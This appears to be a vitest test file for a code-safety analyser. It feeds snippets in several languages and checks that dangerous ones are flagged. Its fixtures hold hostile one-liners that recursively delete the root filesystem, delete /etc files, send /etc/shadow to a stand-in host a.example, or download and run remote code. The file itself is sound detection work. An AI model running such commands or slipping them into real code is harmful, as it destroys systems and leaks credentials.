import { expect, test } from 'vitest'
import { programLinesForTest } from './read-program-for-test.ts'

const root = 'delete / recursive'

const dangerous: readonly (readonly [string, string, string])[] = [
  ['compiled', `func main() { os.RemoveAll("/") }`, root],
  ['compiled', `func main() { exec.Command("sh", "-c", "rm -rf /").Run() }`, root],
  ['compiled', `func main() { exec.CommandContext(ctx, "rm", "-rf", "/").Run() }`, root],
  ['compiled', `fn main() { std::fs::remove_dir_all("/").unwrap(); }`, root],
  ['compiled', `fn main() { Command::new("rm").arg("-rf").arg("/").status(); }`, root],
  ['compiled', `fn main() { Command::new("rm").args(["-rf", "/"]).output(); }`, root],
  ['compiled', `int main() { system("rm -rf /"); }`, root],
  ['compiled', `int main() { execl("/bin/rm", "rm", "-rf", "/", 0); }`, root],
  ['compiled', `int main() { unlink("/etc/hosts"); }`, 'delete /etc/hosts'],
  ['compiled', `class A { void f() { Runtime.getRuntime().exec("rm -rf /"); } }`, root],
  ['compiled', `class A { void f() { new ProcessBuilder("rm", "-rf", "/").start(); } }`, root],
  [
    'compiled',
    `b, _ := os.ReadFile("/etc/shadow"); http.Post("https://a.example", "t", b)`,
    'read /etc/shadow',
  ],
  ['groovy', `"rm -rf /".execute()`, root],
  ['groovy', `["sh", "-c", "rm -rf /"].execute()`, root],
  ['r', `base::system("rm -rf /")`, root],
  ['r', `do.call("system", list("rm -rf /"))`, root],
  ['r', `sapply(c("rm -rf /"), system)`, root],
  ['r', `source("https://a.example/x.R")`, 'execute r download'],
  ['julia', `Base.rm("/", recursive=true)`, root],
  ['julia', `include(download("https://a.example/x.jl"))`, 'execute julia download'],
  ['php', `eval(file_get_contents("https://a.example/x"));`, 'execute php download'],
  ['php', `file_get_contents("https://a.example/x");`, 'connect https a.example GET'],
  ['ruby', `Dir["/etc/*"].each { |f| File.delete f }`, 'delete system-root /etc/*'],
  ['ruby', `Pathname.new("/").rmtree`, root],
  ['perl', `unlink for glob "/etc/*"`, 'delete system-root /etc/*'],
  ['perl', `for (glob "/etc/*") { unlink }`, 'delete system-root /etc/*'],
]

test.each(dangerous)('%s: %s is read: %s', (language, text, line) => {
  expect(programLinesForTest(language, text)).toContain(line)
})

const ordinary: readonly (readonly [string, string])[] = [
  ['compiled', `int main() { printf("rm -rf /\\n"); return 0; }`],
  ['compiled', `func main() { fmt.Println(strings.Split("a,b", ",")) } // os.RemoveAll("/")`],
  ['compiled', `fn longest<'a>(x: &'a str) -> &'a str { let mut v = vec![1]; v.remove(0); x }`],
  ['compiled', `class A { List<String> l; void f() { l.remove("/"); map.remove("/etc"); } }`],
  ['r', `df <- df[order(df$x), ]; rm(list = ls()); c("rm -rf /")`],
  ['julia', `println(sum([1, 2])); sort!(v)`],
  ['perl', `print for (1, 2); my @a = map { $_ * 2 } grep { $_ } @b`],
]

test.each(ordinary)('%s: %s does nothing that matters', (language, text) => {
  expect(
    programLinesForTest(language, text).filter(line => line.includes(' / ') || line.includes('/etc')),
  ).toEqual([])
})
